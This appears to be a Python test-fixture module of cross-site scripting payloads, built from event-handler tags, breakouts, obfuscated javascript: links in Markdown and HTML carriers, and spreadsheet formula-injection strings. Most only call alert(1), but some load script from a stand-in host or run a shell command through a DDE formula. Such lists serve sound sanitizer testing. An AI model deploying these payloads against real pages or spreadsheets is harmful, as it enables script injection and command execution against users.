"""Ways to smuggle a script into a page, after OWASP's list and our peers' faults.

Each would call `alert` if a page took it for its own words: as it stands, out of an
attribute, out of an element, by Markdown, or by an address.
"""

from itertools import product

EVENTS = (
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=data:, onload=alert(1)>",
    "<object data=x onerror=alert(1)></object>",
    "<script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
)
BREAKOUTS = ("", '">', "'>", "</textarea>", "</title>", "-->", "</script>", "]]>", "`>")
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#106;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript:123",
    "vbscript:9",
    "data:text/html,<script>alert(1)</script>",
    "data:1",
    "//evil.example/x.js",
    "/\\evil.example",
)
CARRIERS = (
    "[link]({})",
    "[link](<{}>)",
    "![picture]({})",
    "<{}>",
    '<a href="{}">link</a>',
    "[link][1]\n\n[1]: {}",
)
ODDITIES = (
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    '"><img src=x onerror=alert(1)>.webp',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<<img src=x onerror=alert(1)>>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\u003cimg src=x onerror=alert(1)\u003e",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "<img src=x onerror=alert(1)\x00>",
    "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "![<img src=x onerror=alert(1)>](x)",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    '[x](https://example.com "&quot; onmouseover=alert(1) x=&quot;")',
    "{{ constructor.constructor('alert(1)')() }}",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<div data-hx-get='/' data-hx-trigger=load data-hx-on:load=alert(1)>x</div>",
    '=HYPERLINK("javascript:alert(1)")',
)
# What a spreadsheet would run, as it stands or after a separator.
FORMULAS = (
    "=1+1",
    "=1",
    "+1+1",
    "-1+1",
    "--1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("javascript:alert(1)","x")',
    '=1+1";=1+1',
    "-\u0661",
    "+\u00b2",
)
VECTORS = (
    *(breakout + event for breakout, event in product(BREAKOUTS, EVENTS)),
    *(carrier.format(scheme) for carrier, scheme in product(CARRIERS, SCHEMES)),
    *ODDITIES,
)
